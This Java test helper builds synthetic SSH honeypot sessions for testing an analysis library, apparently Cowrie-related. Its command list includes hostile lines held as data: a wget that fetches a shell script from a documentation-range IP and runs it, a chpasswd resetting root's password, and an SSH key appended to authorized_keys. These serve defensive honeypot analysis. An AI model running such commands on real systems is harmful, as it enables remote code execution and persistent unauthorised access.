package io.github.cowriekit.analysis;

import io.github.cowriekit.model.Client;
import io.github.cowriekit.model.Command;
import io.github.cowriekit.model.Endpoint;
import io.github.cowriekit.model.KeyExchange;
import io.github.cowriekit.model.Session;
import java.time.Instant;
import java.util.ArrayList;
import java.util.List;
import java.util.Random;

/** Sessions of a few clients and scripts that repeat, and of some that do not. */
final class GeneratedSessions {
    private static final String[] LINES = {
        "uname -a",
        "id",
        "exot",
        "sl -la",
        "cd /tmp",
        "touch notes",
        "cat notes",
        "mkdir -p /opt/.x",
        "ls /opt/.x",
        "wget http://192.0.2.7/a/x.sh -O /var/tmp/.x.sh",
        "sh /var/tmp/.x.sh",
        "echo \"root:aeUVqyLmI0Sy\"|chpasswd",
        "echo ssh-rsa AAAAB3NzaC1yc2EAAAADAQABAAAAgQDExampleExampleExample00 me >> ~/.ssh/authorized_keys",
        "exit"
    };

    private GeneratedSessions() {}

    static List<Session> of(long seed, int number) {
        Random random = new Random(seed);
        List<Session> sessions = new ArrayList<>();
        Instant start = Sessions.START;
        for (int i = 0; i < number; i++) {
            start = start.plusSeconds(random.nextInt(3_000));
            Random script = new Random(random.nextInt(40));
            List<Command> commands = new ArrayList<>();
            for (int line = script.nextInt(8); line > 0; line--) {
                commands.add(new Command(
                        start.plusMillis(random.nextInt(90_000)), LINES[script.nextInt(LINES.length)], false, null));
            }
            if (random.nextInt(10) == 0) {
                commands.add(new Command(start, "touch /opt/" + Long.toString(random.nextLong(), 36), false, null));
            }
            sessions.add(Sessions.withId("fd5ac84ee8f9")
                    .sensor("hp0" + random.nextInt(2))
                    .source(new Endpoint("203.0.113." + random.nextInt(30), 40_000))
                    .startedAt(start)
                    .logins(List.of(Sessions.login("root", "p" + random.nextInt(200), true)))
                    .client(client(random.nextInt(3)))
                    .commands(commands)
                    .build());
        }
        return sessions;
    }

    private static Client client(int number) {
        String hassh = String.valueOf(number).repeat(32);
        return new Client("SSH-2.0-example", KeyExchange.builder().hassh(hassh).build(), null, List.of());
    }
}
